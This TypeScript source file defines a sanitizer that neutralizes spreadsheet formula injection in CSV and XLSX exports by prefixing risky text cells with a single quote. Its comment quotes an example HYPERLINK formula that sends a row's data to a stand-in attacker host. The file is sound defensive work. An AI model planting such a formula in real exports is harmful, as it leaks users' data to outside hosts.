/**
 * Spreadsheet formula injection (docs/SECURITY.md, "Spreadsheet exports"): organization names,
 * exemption reasons and every other text people type reach our CSV and XLSX files, and a cell
 * that begins with `=`, `+`, `-` or `@` (or a tab or carriage return before one) is a formula to
 * Excel and LibreOffice: `=HYPERLINK("https://evil.example/?"&C2;"x")` would send the row's data
 * away on a click. As OWASP advises for CSV injection, such text gets a leading single quote,
 * which makes the program show it as text. The full-width forms of those signs are treated the
 * same, as csv-stringify's own `escape_formulas` does, since some locales' input turns them into
 * formulas too.
 *
 * Numbers are left alone: a negative number is a number, not text; only strings are changed.
 * Every writer in this directory and the Monday summary workbook (engine/summary.ts) put each
 * cell through this one function.
 */
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

export function spreadsheetSafe<T>(value: T): T | string {
  return typeof value === 'string' && FORMULA_START.test(value) ? `'${value}` : value;
}
